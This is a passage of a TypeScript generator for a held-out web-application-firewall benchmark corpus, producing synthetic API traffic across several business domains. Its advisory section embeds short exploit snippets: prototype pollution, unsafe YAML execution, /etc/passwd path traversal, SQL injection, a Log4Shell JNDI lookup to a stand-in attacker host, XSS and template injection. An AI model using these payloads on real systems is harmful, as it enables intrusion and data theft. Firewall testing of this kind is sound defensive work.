// biome-ignore-all lint/suspicious/noTemplateCurlyInString: payloads hold literal ${…}
/**
 * Held-out WAF corpus 23 for the API profile, written blind (without reading the WAF sources, its docs,
 * its tests or the other corpora).
 *
 * Domains: parking & EV charging network, nonprofit volunteer scheduling, B2B procurement punchout
 * catalogs, video conferencing (chat, transcripts, captions), tax preparation software, open-source
 * package security advisories, digital signage content management, academic course registration.
 *
 * Clean traffic mixes REST reads with query strings, JSON writes, JSON:API, merge-patch, json-patch,
 * GraphQL (POST and persisted GET), form-urlencoded, multipart, NDJSON, deletes, rich-text HTML, code,
 * multilingual prose and search. Attacks hide real payloads of nine families inside JSON API bodies,
 * query strings and headers, never in a field listed in {@link HELDOUT23_EXCLUDE_FIELDS}.
 *
 * Generation is deterministic: a self-written mulberry32 PRNG with a fixed seed picks the variations.
 *
 * Run: `node bench/waf/corpus/heldout23.ts` writes clean-heldout23.json and attacks-heldout23.json next
 * to this file and prints the counts.
 */
import { writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { CorpusRequest } from './generate.ts';

/** Returns a mulberry32 PRNG yielding floats in [0, 1). */
function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const rnd = mulberry32(0x23a5c0de);
function pick<T>(xs: readonly T[]): T {
  const v = xs[Math.floor(rnd() * xs.length)];
  if (v === undefined) throw new Error('empty pick');
  return v;
}
function int(lo: number, hi: number): number {
  return lo + Math.floor(rnd() * (hi - lo + 1));
}
function hex(n: number): string {
  let s = '';
  for (let i = 0; i < n; i++) s += '0123456789abcdef'[Math.floor(rnd() * 16)];
  return s;
}
function uuid(): string {
  return `${hex(8)}-${hex(4)}-4${hex(3)}-a${hex(3)}-${hex(12)}`;
}
function b64url(s: string): string {
  return Buffer.from(s).toString('base64url');
}
function jwt(sub: string): string {
  const h = b64url(JSON.stringify({ alg: 'RS256', typ: 'JWT', kid: hex(8) }));
  const p = b64url(
    JSON.stringify({ sub, iss: 'https://auth.example-idp.com/', exp: 1796000000 + int(0, 99999) }),
  );
  return `${h}.${p}.${b64url(hex(64))}`;
}

/** JSON body paths (`body.<dotted.path>`) of fields that legitimately hold rich-text HTML or source code. */
export const HELDOUT23_EXCLUDE_FIELDS: string[] = ['body.contentHtml', 'body.widget.html', 'body.poc.code'];

const UAS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148',
  'okhttp/4.12.0',
  'ParkNGo/5.14.2 (Android 14; Pixel 8)',
  'python-requests/2.32.3',
  'axios/1.7.7',
  'Go-http-client/2.0',
  'Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0',
];

function headers(ct: string | null, extra: Record<string, string> = {}): Record<string, string> {
  const h: Record<string, string> = {
    'user-agent': pick(UAS),
    accept:
      ct === 'application/vnd.api+json'
        ? 'application/vnd.api+json'
        : pick(['application/json', '*/*', 'application/json, text/plain, */*']),
    authorization: `Bearer ${jwt(`usr_${hex(10)}`)}`,
  };
  if (ct) h['content-type'] = ct;
  return { ...h, ...extra };
}

interface Draft {
  kind: string;
  method: string;
  path: string;
  ct: string | null;
  body: string;
  extra?: Record<string, string>;
}

const j = (x: unknown): string => JSON.stringify(x);
const JSON_CT = 'application/json';
const q = (o: Record<string, string | number>): string =>
  Object.entries(o)
    .map(([k, v]) => `${encodeURIComponent(k)}=${encodeURIComponent(String(v))}`)
    .join('&');
const qs = (o: Record<string, string | number>): string => q(o);
function multipart(
  fields: Record<string, string>,
  file?: { name: string; filename: string; type: string; data: string },
): { ct: string; body: string } {
  const b = `----WebKitFormBoundary${hex(16)}`;
  let s = '';
  for (const [k, v] of Object.entries(fields))
    s += `--${b}\r\nContent-Disposition: form-data; name="${k}"\r\n\r\n${v}\r\n`;
  if (file)
    s += `--${b}\r\nContent-Disposition: form-data; name="${file.name}"; filename="${file.filename}"\r\nContent-Type: ${file.type}\r\n\r\n${file.data}\r\n`;
  s += `--${b}--\r\n`;
  return { ct: `multipart/form-data; boundary=${b}`, body: s };
}
const gql = (query: string, variables: Record<string, unknown>, operationName?: string): string =>
  j(operationName ? { operationName, query, variables } : { query, variables });

// ---------------------------------------------------------------- shared prose
const PROSE = [
  'Le chargeur n°4 affiche « erreur de communication » depuis ce matin ; merci de vérifier.',
  'Die Ladesäule am Parkhaus Süd ist seit gestern defekt – bitte Techniker schicken.',
  '駐車場の入口ゲートが開きません。至急対応をお願いします。',
  'Por favor, cambien mi turno del sábado al domingo; tengo un examen.',
  '충전이 80%에서 멈췄어요. 요금이 두 번 청구되었습니다.',
  'Спасибо всем волонтёрам! Следующая смена — в пятницу в 9:00.',
  'الرجاء تحديث جدول المحاضرات قبل يوم الأحد.',
  'Zamówienie #PO-4471 – proszę o potwierdzenie terminu dostawy.',
  'Obrigado pela reunião de hoje, seguem as notas em anexo.',
  "Can we move the 3:00 pm stand-up? I'm double-booked (sorry!).",
  "Client's W-2 shows box 12 code DD — that's employer health coverage, not taxable.",
  'Μπορείτε να στείλετε το πρόγραμμα της εβδομάδας;',
  'Xin vui lòng xác nhận lịch tình nguyện viên cho Chủ nhật.',
  'यह पाठ्यक्रम पूर्वापेक्षा के बिना उपलब्ध नहीं है।',
  'Note: select "Yes" only if you paid > $600 AND < $5,000; otherwise leave blank.',
  'Meeting notes: 1) budget -> approved; 2) vendor list = pending; 3) Q&A @ 4pm',
  "The screen in lobby B shows a 50/50 split — left half is black. Reboot didn't help 😕",
  'I tried `npm audit fix --force` but it bumped lodash to 5.0.0-beta; reverting.',
  "Prereq waived per Dr. O'Neil (email 2026-09-02). Student may enroll in CS 3410.",
  'Ticket re-opened: user says "select all" in the caption editor drops the first line.',
];
const NAMES = [
  'Amélie Durand',
  'José Ramírez',
  '山田 太郎',
  'Priya Natarajan',
  "Seán O'Connor",
  'Zoë Müller',
  'Oluwaseun Adeyemi',
  'Chen Wei',
  'Ana-María López',
  'Björn Åkesson',
  'Dmitri Ivanov',
  'Fatima Al-Sayed',
];
const CITIES = [
  'Lyon',
  'München',
  'Austin',
  'Osaka',
  'São Paulo',
  'Kraków',
  'Toronto',
  'Melbourne',
  'Zürich',
  'Nairobi',
];
const iso = (): string =>
  `2026-${String(int(1, 12)).padStart(2, '0')}-${String(int(1, 28)).padStart(2, '0')}T${String(int(0, 23)).padStart(2, '0')}:${pick(['00', '15', '30', '45'])}:00Z`;
const day = (): string =>
  `2026-${String(int(1, 12)).padStart(2, '0')}-${String(int(1, 28)).padStart(2, '0')}`;

// ---------------------------------------------------------------- domain generators (clean)
type Gen = () => Draft;

const parking: Gen[] = [
  () => ({
    kind: 'rest-get',
    method: 'GET',
    path: `/api/v2/parking/lots?${qs({ lat: (45.7 + rnd()).toFixed(5), lng: (4.8 + rnd()).toFixed(5), radius_m: pick([500, 1000, 2500]), 'filter[ev]': 'true', 'filter[connector][in]': 'CCS2,Type2', sort: '-available_spots' })}`,
    ct: null,
    body: '',
  }),
  () => ({
    kind: 'rest-write',
    method: 'POST',
    path: '/api/v2/parking/sessions',
    ct: JSON_CT,
    body: j({
      lotId: `lot_${hex(6)}`,
      plate: pick(['AB-123-CD', 'M-XY 4021', 'KA 01 AB 1234', '7ABC123']),
      startAt: iso(),
      paymentMethodId: `pm_${hex(24)}`,
      vehicle: { make: pick(['Renault', 'Tesla', 'VW', 'Hyundai']), ev: rnd() > 0.5 },
    }),
  }),
  () => ({
    kind: 'rest-write',
    method: 'POST',
    path: `/api/v2/chargers/EVSE-${hex(6).toUpperCase()}/commands/start`,
    ct: JSON_CT,
    body: j({
      connectorId: int(1, 2),
      idTag: hex(16).toUpperCase(),
      ocpp: { version: '1.6J', action: 'RemoteStartTransaction' },
      chargingProfile: {
        chargingRateUnit: 'W',
        chargingSchedulePeriod: [
          { startPeriod: 0, limit: 11000 },
          { startPeriod: 3600, limit: 7400 },
        ],
      },
    }),
  }),
  () => ({
    kind: 'merge-patch',
    method: 'PATCH',
    path: `/api/v2/parking/sessions/${uuid()}`,
    ct: 'application/merge-patch+json',
    body: j({ endAt: iso(), note: pick(PROSE), receipt: { email: 'driver@example.fr' } }),
  }),
  () => ({
    kind: 'graphql',
    method: 'POST',
    path: '/graphql',
    ct: JSON_CT,
    body: gql(
      'query Nearby($lat: Float!, $lng: Float!, $kw: Int) { chargers(near: {lat: $lat, lng: $lng}, minPowerKw: $kw, first: 20) { edges { node { id name status connectors { type powerKw price { perKwh currency } } } } } }',
      { lat: 48.137, lng: 11.575, kw: pick([22, 50, 150]) },
      'Nearby',
    ),
  }),
  () => ({
    kind: 'ndjson',
    method: 'POST',
    path: '/api/v2/chargers/telemetry:batch',
    ct: 'application/x-ndjson',
    body: `${Array.from({ length: int(3, 6) }, () => j({ evse: `EVSE-${hex(6).toUpperCase()}`, ts: iso(), meterWh: int(1000, 900000), status: pick(['Charging', 'Available', 'Faulted', 'SuspendedEV']), errorCode: pick(['NoError', 'GroundFailure', 'OverCurrentFailure']) })).join('\n')}\n`,
  }),
  () => ({
    kind: 'prose',
    method: 'POST',
    path: '/api/v2/support/tickets',
    ct: JSON_CT,
    body: j({
      category: 'charger-fault',
      message: pick(PROSE),
      locale: pick(['fr-FR', 'de-DE', 'ja-JP', 'ko-KR']),
      city: pick(CITIES),
    }),
  }),
  () => ({
    kind: 'form',
    method: 'POST',
    path: '/api/v2/parking/permits/apply',
    ct: 'application/x-www-form-urlencoded',
    body: q({
      name: pick(NAMES),
      plate: 'GH-881-ZT',
      zone: 'R3',
      start: day(),
      'proof[]': 'utility_bill',
      comment: 'Résidente depuis 2019 & propriétaire (bâtiment C)',
    }),
  }),
  () => ({
    kind: 'delete',
    method: 'DELETE',
    path: `/api/v2/parking/reservations/res_${hex(12)}?reason=plans_changed`,
    ct: null,
    body: '',
  }),
  () => ({
    kind: 'search',
    method: 'GET',
    path: `/api/v2/parking/search?${qs({ q: pick(['parking gare part-dieu', 'EV 150kW near "Hauptbahnhof"', 'covered & 24/7', 'tarif < 2€/h']), page: int(1, 4) })}`,
    ct: null,
    body: '',
  }),
];

const volunteer: Gen[] = [
  () => ({
    kind: 'rest-get',
    method: 'GET',
    path: `/v1/orgs/org_${hex(6)}/shifts?${qs({ 'date[gte]': day(), 'date[lte]': day(), role: pick(['food-bank', 'driver', 'tutor']), status: 'open', include: 'location,coordinator' })}`,
    ct: null,
    body: '',
  }),
  () => ({
    kind: 'jsonapi',
    method: 'POST',
    path: '/v1/signups',
    ct: 'application/vnd.api+json',
    body: j({
      data: {
        type: 'signups',
        attributes: {
          note: pick(PROSE),
          tshirtSize: pick(['S', 'M', 'L', 'XL']),
          emergencyContact: { name: pick(NAMES), phone: '+33 6 12 34 56 78' },
        },
        relationships: {
          shift: { data: { type: 'shifts', id: uuid() } },
          volunteer: { data: { type: 'volunteers', id: uuid() } },
        },
      },
    }),
  }),
  () => ({
    kind: 'rest-write',
    method: 'PUT',
    path: `/v1/volunteers/${uuid()}/availability`,
    ct: JSON_CT,
    body: j({
      timezone: pick(['Europe/Paris', 'America/Chicago', 'Asia/Tokyo']),
      weekly: [
        { day: 'sat', from: '09:00', to: '13:00' },
        { day: 'sun', from: '14:00', to: '18:00' },
      ],
      blackout: [day(), day()],
      skills: ['first-aid', 'forklift', 'Spanish (fluent)'],
    }),
  }),
  () => ({
    kind: 'cms-html',
    method: 'PUT',
    path: `/v1/orgs/org_${hex(6)}/announcements/${int(100, 999)}`,
    ct: JSON_CT,
    body: j({
      title: 'Winter coat drive — we need you!',
      contentHtml: `<h2>Winter coat drive</h2><p>Join us on <strong>Saturday</strong> at <a href="https://maps.example.org/?q=St+Mark%27s+Hall" target="_blank" rel="noopener">St Mark's Hall</a>.</p><ul><li>Sorting: 9–12</li><li>Distribution: 12–4</li></ul><p><img src="https://cdn.example.org/img/coats.jpg" alt="Coats on a rack" width="600"></p>`,
      publish: true,
    }),
  }),
  () => ({
    kind: 'multipart',
    method: 'POST',
    path: '/v1/volunteers/documents',
    ...(() => {
      const m = multipart(
        { docType: 'background-check', volunteerId: uuid() },
        {
          name: 'file',
          filename: 'consent form (signed).pdf',
          type: 'application/pdf',
          data: `%PDF-1.7\n%âãÏÓ\n1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n`,
        },
      );
      return { ct: m.ct, body: m.body };
    })(),
  }),
  () => ({
    kind: 'json-patch',
    method: 'PATCH',
    path: `/v1/shifts/${uuid()}`,
    ct: 'application/json-patch+json',
    body: j([
      { op: 'replace', path: '/capacity', value: int(4, 30) },
      { op: 'add', path: '/tags/-', value: 'wheelchair-accessible' },
      { op: 'remove', path: '/notes/2' },
    ]),
  }),
  () => ({
    kind: 'graphql',
    method: 'GET',
    path: `/graphql?${qs({ operationName: 'MyShifts', variables: j({ from: day(), first: 10 }), extensions: j({ persistedQuery: { version: 1, sha256Hash: hex(64) } }) })}`,
    ct: null,
    body: '',
  }),
  () => ({
    kind: 'prose',
    method: 'POST',
    path: `/v1/shifts/${uuid()}/messages`,
    ct: JSON_CT,
    body: j({ text: `${pick(PROSE)}\n\n— ${pick(NAMES)}`, notify: ['sms', 'email'] }),
  }),
  () => ({ kind: 'delete', method: 'DELETE', path: `/v1/signups/${uuid()}`, ct: null, body: '' }),
  () => ({
    kind: 'search',
    method: 'GET',
    path: `/v1/opportunities/search?${qs({ q: pick(['tutoring kids "after school"', 'bénévolat week-end', 'animal shelter OR dog walking', 'remote -phone']), near: pick(CITIES), remote: 'false' })}`,
    ct: null,
    body: '',
  }),
];

const procurement: Gen[] = [
  () => ({
    kind: 'rest-write',
    method: 'POST',
    path: '/punchout/v1/setup',
    ct: JSON_CT,
    body: j({
      payloadID: `${int(1e9, 9e9)}.${hex(6)}@buyer.example.com`,
      operation: 'create',
      buyerCookie: hex(32),
      browserFormPost: { url: 'https://erp.buyer.example.com/punchout/return?session=' + hex(12) },
      from: { credential: { domain: 'DUNS', identity: '123456789' } },
      to: { credential: { domain: 'NetworkId', identity: 'AN01000000087' } },
      sender: {
        credential: { domain: 'NetworkId', identity: 'AN01000002792', sharedSecret: hex(20) },
        userAgent: 'Coupa Procurement 1.0',
      },
      extrinsic: { UserEmail: 'j.smith@buyer.example.com', CostCenter: '4410-OPS' },
    }),
  }),
  () => ({
    kind: 'rest-write',
    method: 'POST',
    path: `/punchout/v1/sessions/${hex(16)}/cart`,
    ct: JSON_CT,
    body: j({
      items: Array.from({ length: int(1, 4) }, () => ({
        supplierPartID: `${pick(['HP', '3M', 'STA'])}-${int(1000, 99999)}`,
        supplierPartAuxiliaryID: hex(8),
        quantity: int(1, 50),
        unitPrice: { money: { currency: pick(['USD', 'EUR']), value: (rnd() * 300).toFixed(2) } },
        description: pick([
          'Paper, A4 80g/m² (5×500 sheets)',
          'Nitrile gloves, size L — box/100',
          'USB-C hub 7-in-1 w/ 100W PD',
          'Screws M4×20 DIN 912 (pack of 200)',
        ]),
        unitOfMeasure: pick(['EA', 'BX', 'PK']),
        classification: { domain: 'UNSPSC', value: String(int(10000000, 60000000)) },
      })),
    }),
  }),
  () => ({
    kind: 'rest-get',
    method: 'GET',
    path: `/catalog/v3/items?${qs({ q: pick(['toner 26A', 'safety glasses ANSI Z87.1', 'cable 2m cat6']), 'price[lt]': int(20, 500), 'supplier[in]': 'staples,grainger', fields: 'sku,name,price,leadTimeDays', limit: 50 })}`,
    ct: null,
    body: '',
  }),
  () => ({
    kind: 'prose',
    method: 'POST',
    path: `/procurement/v1/requisitions/REQ-${int(10000, 99999)}/comments`,
    ct: JSON_CT,
    body: j({
      author: pick(NAMES),
      text: pick([
        'Supplier note: price valid until 31/12; MOQ = 10 units; freight "FOB origin".',
        'Please split PO: 60% → cost center 4410, 40% → 4420.',
        'Lieferant bestätigt: Lieferung KW 48, Teillieferungen möglich.',
        'Approved <= $5k per policy §4.2; above needs CFO sign-off.',
      ]),
    }),
  }),
  () => ({
    kind: 'merge-patch',
    method: 'PATCH',
    path: `/procurement/v1/purchase-orders/PO-${int(1000, 9999)}`,
    ct: 'application/merge-patch+json',
    body: j({
      shipTo: { attention: pick(NAMES), street: '12 Rue de la Paix', city: 'Paris', postalCode: '75002' },
      requestedDelivery: day(),
      comments: null,
    }),
  }),
  () => ({
    kind: 'form',
    method: 'POST',
    path: '/punchout/v1/return',
    ct: 'application/x-www-form-urlencoded',
    body: q({
      'cxml-urlencoded': `<?xml version="1.0"?><cXML payloadID="${hex(10)}@supplier.example.com" timestamp="${iso()}"><Message><PunchOutOrderMessage><BuyerCookie>${hex(16)}</BuyerCookie><PunchOutOrderMessageHeader operationAllowed="edit"><Total><Money currency="USD">142.50</Money></Total></PunchOutOrderMessageHeader></PunchOutOrderMessage></Message></cXML>`,
    }),
  }),
  () => ({
    kind: 'ndjson',
    method: 'POST',
    path: '/catalog/v3/items:import',
    ct: 'application/x-ndjson',
    body: `${Array.from({ length: int(3, 5) }, () => j({ sku: `SKU-${hex(6)}`, name: pick(['Chaise ergonomique "Pro"', 'Desk lamp 40W (warm/cold)', 'Whiteboard 120×90 cm']), price: Number((rnd() * 400).toFixed(2)), attrs: { color: pick(['black', 'grey']), 'size/cm': '120x90' } })).join('\n')}\n`,
  }),
  () => ({
    kind: 'delete',
    method: 'DELETE',
    path: `/punchout/v1/sessions/${hex(16)}/cart/items/${int(1, 9)}`,
    ct: null,
    body: '',
  }),
  () => ({
    kind: 'graphql',
    method: 'POST',
    path: '/graphql',
    ct: JSON_CT,
    body: gql(
      'query Supplier($id: ID!) { supplier(id: $id) { name rating contracts(status: ACTIVE) { id expiresAt terms } catalogs { id lastSyncedAt itemCount } } }',
      { id: `sup_${hex(8)}` },
    ),
  }),
  () => ({
    kind: 'json-patch',
    method: 'PATCH',
    path: `/catalog/v3/items/SKU-${hex(6)}`,
    ct: 'application/json-patch+json',
    body: j([
      { op: 'test', path: '/price/currency', value: 'EUR' },
      { op: 'replace', path: '/price/value', value: 19.9 },
      { op: 'copy', from: '/images/0', path: '/thumbnail' },
    ]),
  }),
];

const video: Gen[] = [
  () => ({
    kind: 'prose',
    method: 'POST',
    path: `/v1/meetings/${int(8e9, 9e9)}/chat`,
    ct: JSON_CT,
    body: j({
      to: pick(['everyone', 'hosts']),
      text: pick([
        ...PROSE,
        'can everyone mute pls 🙏',
        'link to the deck: https://docs.example.com/d/1AbC?usp=sharing&slide=id.p4',
        'lol my cat just walked across the keyboard ;)',
        "+1 to what Sam said -- let's ship it",
        'SELECT is slow on prod again? (asking for the DB team)',
        'the <div> wrapper breaks on Safari, will fix after the call',
      ]),
    }),
  }),
  () => ({
    kind: 'rest-write',
    method: 'POST',
    path: `/v1/meetings/${int(8e9, 9e9)}/transcripts`,
    ct: JSON_CT,
    body: j({
      language: pick(['en-US', 'es-ES', 'ja-JP']),
      segments: Array.from({ length: int(2, 4) }, (_, i) => ({
        start: i * 4.2,
        end: i * 4.2 + 3.9,
        speaker: pick(NAMES),
        text: pick([
          'So, um, the Q3 numbers — they look fine, I think.',
          'Next slide please. No, the one with the chart.',
          "Okay, let's take questions from the chat.",
          'Entonces, ¿empezamos con la agenda?',
          'では、始めましょう。',
        ]),
        confidence: Number((0.8 + rnd() * 0.2).toFixed(3)),
      })),
    }),
  }),
  () => ({
    kind: 'rest-write',
    method: 'PUT',
    path: `/v1/recordings/${uuid()}/captions/en`,
    ct: JSON_CT,
    body: j({
      format: 'webvtt',
      vtt: `WEBVTT\n\n00:00:01.000 --> 00:00:04.000\n<v Chen Wei>Welcome, everyone.\n\n00:00:04.500 --> 00:00:08.000\n<v Zoë Müller>Thanks — can you hear me? [laughter]\n`,
    }),
  }),
  () => ({
    kind: 'rest-get',
    method: 'GET',
    path: `/v1/users/me/meetings?${qs({ type: 'upcoming', from: day(), to: day(), page_size: 30, next_page_token: b64url(j({ offset: int(0, 300) })) })}`,
    ct: null,
    body: '',
  }),
  () => ({
    kind: 'rest-write',
    method: 'POST',
    path: '/v1/users/me/meetings',
    ct: JSON_CT,
    body: j({
      topic: pick(['Weekly sync / 週次ミーティング', 'Q&A: "Roadmap 2027"', 'Interview — Sr. Backend Eng.']),
      start_time: iso(),
      duration: pick([30, 45, 60]),
      timezone: 'Europe/Berlin',
      agenda: '1. Intro\n2. Demo\n3. Next steps',
      settings: {
        waiting_room: true,
        join_before_host: false,
        auto_recording: 'cloud',
        alternative_hosts: 'a@example.com;b@example.com',
      },
    }),
  }),
  () => ({
    kind: 'graphql',
    method: 'POST',
    path: '/graphql',
    ct: JSON_CT,
    body: gql(
      'mutation React($m: ID!, $e: String!) { sendReaction(meetingId: $m, emoji: $e) { ok } }',
      { m: String(int(8e9, 9e9)), e: pick(['👍', '🎉', '❤️']) },
      'React',
    ),
  }),
  () => ({
    kind: 'json-patch',
    method: 'PATCH',
    path: `/v1/webinars/${int(8e9, 9e9)}/panelists`,
    ct: 'application/json-patch+json',
    body: j([{ op: 'add', path: '/-', value: { name: pick(NAMES), email: 'guest@example.org' } }]),
  }),
  () => ({
    kind: 'multipart',
    method: 'POST',
    path: '/v1/meetings/files',
    ...(() => {
      const m = multipart(
        { meetingId: String(int(8e9, 9e9)) },
        {
          name: 'file',
          filename: 'agenda.md',
          type: 'text/markdown',
          data: '# Agenda\n\n- [ ] Review *draft* `v2`\n- [x] Budget > approved\n\n> Quote: "move fast & fix things"\n',
        },
      );
      return { ct: m.ct, body: m.body };
    })(),
  }),
  () => ({
    kind: 'search',
    method: 'GET',
    path: `/v1/recordings/search?${qs({ q: pick(['"action items" budget', 'transcript:roadmap AND speaker:chen', 'café OR coffee', 'how to reset password?']), from: day() })}`,
    ct: null,
    body: '',
  }),
  () => ({
    kind: 'delete',
    method: 'DELETE',
    path: `/v1/recordings/${uuid()}?action=trash`,
    ct: null,
    body: '',
  }),
];

const tax: Gen[] = [
  () => ({
    kind: 'rest-write',
    method: 'PUT',
    path: `/api/returns/${uuid()}/forms/1040/lines`,
    ct: JSON_CT,
    body: j({
      taxYear: 2025,
      lines: {
        '1a': int(30000, 150000),
        '2b': int(0, 900),
        '3b': int(0, 2500),
        '12': 14600,
        '16': int(2000, 20000),
      },
      filingStatus: pick(['single', 'mfj', 'hoh']),
    }),
  }),
  () => ({
    kind: 'rest-write',
    method: 'POST',
    path: `/api/returns/${uuid()}/w2`,
    ct: JSON_CT,
    body: j({
      employer: {
        ein: `${int(10, 99)}-${int(1000000, 9999999)}`,
        name: pick(['ACME Widgets, Inc.', "Joe's Diner & Grill LLC", 'Müller GmbH (US branch)']),
      },
      box1: int(30000, 120000),
      box2: int(2000, 20000),
      box12: [
        { code: 'DD', amount: 8420 },
        { code: 'D', amount: 6000 },
      ],
      box14: 'NY SDI 31.20',
      state: [{ code: 'NY', box16: 72000, box17: 3888 }],
    }),
  }),
  () => ({
    kind: 'prose',
    method: 'POST',
    path: `/api/returns/${uuid()}/advisor-notes`,
    ct: JSON_CT,
    body: j({
      note: pick([
        "Client sold RSUs; cost basis on 1099-B is $0 — adjust via Form 8949 code 'B'.",
        'Home office: 200 sq ft / 1,800 sq ft = 11.1%; simplified method ($5 × 200) = $1,000.',
        'Crypto: 14 txns, FIFO; see attached CSV. Wash-sale rule N/A (property).',
        'Le client réside en France > 183 jours : vérifier la convention fiscale.',
        'Reminder: Q4 estimated payment due 01/15; 110% safe harbor if AGI > $150k.',
      ]),
      visibility: 'internal',
    }),
  }),
  () => ({
    kind: 'rest-get',
    method: 'GET',
    path: `/api/returns?${qs({ 'filter[status]': pick(['draft', 'ready_to_file', 'rejected']), 'filter[taxYear]': 2025, 'filter[refund][gte]': int(0, 1000), sort: '-updatedAt', 'page[size]': 25 })}`,
    ct: null,
    body: '',
  }),
  () => ({
    kind: 'multipart',
    method: 'POST',
    path: '/api/documents/upload',
    ...(() => {
      const m = multipart(
        { docType: pick(['1099-INT', '1098-E', 'W-2']), returnId: uuid() },
        {
          name: 'file',
          filename: 'transactions_2025.csv',
          type: 'text/csv',
          data: 'date,description,amount,basis\n2025-03-04,"Sell 10 AAPL @ 171.20",1712.00,1410.55\n2025-07-19,"Dividend, reinvested",42.17,\n2025-11-02,"Fee (wire) -- refund pending",-25.00,\n',
        },
      );
      return { ct: m.ct, body: m.body };
    })(),
  }),
  () => ({
    kind: 'merge-patch',
    method: 'PATCH',
    path: `/api/returns/${uuid()}/taxpayer`,
    ct: 'application/merge-patch+json',
    body: j({
      address: { line1: "1600 O'Farrell St, Apt #3", city: 'San Francisco', state: 'CA', zip: '94115' },
      phone: '(415) 555-0199',
      dependents: [{ firstName: 'Léa', relationship: 'daughter', dob: '2016-05-14' }],
    }),
  }),
  () => ({
    kind: 'graphql',
    method: 'POST',
    path: '/graphql',
    ct: JSON_CT,
    body: gql(
      'query Estimate($id: ID!) { return(id: $id) { agi taxableIncome credits { code amount } estimatedRefund efileStatus { state submissionId rejectCodes } } }',
      { id: uuid() },
    ),
  }),
  () => ({
    kind: 'form',
    method: 'POST',
    path: '/api/efile/consent',
    ct: 'application/x-www-form-urlencoded',
    body: q({
      returnId: uuid(),
      pin: String(int(10000, 99999)),
      priorYearAgi: String(int(20000, 90000)),
      agree: 'on',
      signature: pick(NAMES),
    }),
  }),
  () => ({
    kind: 'json-patch',
    method: 'PATCH',
    path: `/api/returns/${uuid()}/schedules/c`,
    ct: 'application/json-patch+json',
    body: j([
      { op: 'replace', path: '/expenses/line9', value: 3120.5 },
      {
        op: 'add',
        path: '/expenses/other/-',
        value: { description: 'Software (SaaS) – Figma & GitHub', amount: 480 },
      },
    ]),
  }),
  () => ({ kind: 'delete', method: 'DELETE', path: `/api/documents/${uuid()}`, ct: null, body: '' }),
];

const POCS = [
  'const _ = require(\'lodash\');\n_.merge({}, JSON.parse(\'{"__proto__":{"polluted":true}}\'));\nconsole.log({}.polluted); // true',
  "import yaml\nyaml.load(open('x.yml'))  # unsafe: use yaml.safe_load\n# x.yml: !!python/object/apply:os.system ['id']",
  'curl -s "http://localhost:8080/api/files?name=../../../../etc/passwd"',
  'String q = "SELECT * FROM users WHERE name = \'" + name + "\'"; // vulnerable\nstmt.executeQuery(q);',
  'logger.info("User agent: {}", request.getHeader("User-Agent")); // ${jndi:ldap://attacker/a} triggers lookup',
  '<img src=x onerror=alert(document.domain)> rendered by marked() without sanitize: true',
  "app.get('/render', (req, res) => res.send(nunjucks.renderString(req.query.t))); // {{7*7}} -> 49",
];
const advisories: Gen[] = [
  () => ({
    kind: 'rest-get',
    method: 'GET',
    path: `/v1/advisories?${qs({ ecosystem: pick(['npm', 'pypi', 'maven', 'go', 'crates.io']), package: pick(['lodash', 'pyyaml', 'log4j-core', 'golang.org/x/net', 'serde_json']), severity: pick(['high,critical', 'moderate']), affects: pick(['>=1.0.0 <1.2.3', '<2.17.1', '^4.17.0', '~=5.3']) })}`,
    ct: null,
    body: '',
  }),
  () => ({
    kind: 'code',
    method: 'POST',
    path: '/v1/advisories',
    ct: JSON_CT,
    body: j({
      id: `GHSA-${hex(4)}-${hex(4)}-${hex(4)}`,
      aliases: [`CVE-2026-${int(10000, 49999)}`],
      summary: pick([
        'Prototype pollution in deep merge',
        'Path traversal in static file handler',
        'SQL injection via order-by parameter',
        'Server-side template injection in preview endpoint',
      ]),
      details:
        'An attacker who controls the input can reach the vulnerable code path. See the PoC below. Fixed by validating keys / paths.',
      affected: [
        {
          package: { ecosystem: 'npm', name: pick(['deep-merge-x', 'static-serve', 'tiny-orm']) },
          ranges: [
            {
              type: 'SEMVER',
              events: [{ introduced: '0' }, { fixed: `${int(1, 4)}.${int(0, 9)}.${int(0, 9)}` }],
            },
          ],
        },
      ],
      poc: { language: pick(['js', 'python', 'shell', 'java']), code: pick(POCS) },
      references: [{ type: 'WEB', url: `https://github.com/example/pkg/security/advisories/GHSA-${hex(4)}` }],
    }),
  }),
  () => ({
    kind: 'prose',
    method: 'POST',
    path: `/v1/advisories/GHSA-${hex(4)}-${hex(4)}-${hex(4)}/comments`,
    ct: JSON_CT,
    body: j({
      body: pick([
        'Confirmed on 4.17.20. The fix in 4.17.21 only blocks `__proto__`, not `constructor.prototype` — can we reopen?',
        'Severity seems overstated: exploitation requires the app to pass user input to `template()`.',
        "Backport to the 2.x line please; we can't upgrade to 3.0 (breaking ESM change).",
        'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H — agree with critical.',
      ]),
    }),
  }),
  () => ({
    kind: 'merge-patch',
    method: 'PATCH',
    path: `/v1/advisories/GHSA-${hex(4)}-${hex(4)}-${hex(4)}`,
    ct: 'application/merge-patch+json',
    body: j({
      severity: 'high',
      cvss: { vector: 'CVSS:3.1/AV:N/AC:L/PR:L/UI:N/S:U/C:H/I:N/A:N', score: 6.5 },
      withdrawn: null,
    }),
  }),
  () => ({
    kind: 'ndjson',
    method: 'POST',
    path: '/v1/sbom/scan',
    ct: 'application/x-ndjson',
    body: `${Array.from({ length: int(3, 6) }, () => j({ purl: `pkg:${pick(['npm/lodash@4.17.20', 'pypi/pyyaml@5.3', 'maven/org.apache.logging.log4j/log4j-core@2.14.1', 'golang/golang.org/x/net@v0.7.0'])}`, scope: pick(['runtime', 'dev']) })).join('\n')}\n`,
  }),
  () => ({
    kind: 'graphql',
    method: 'POST',
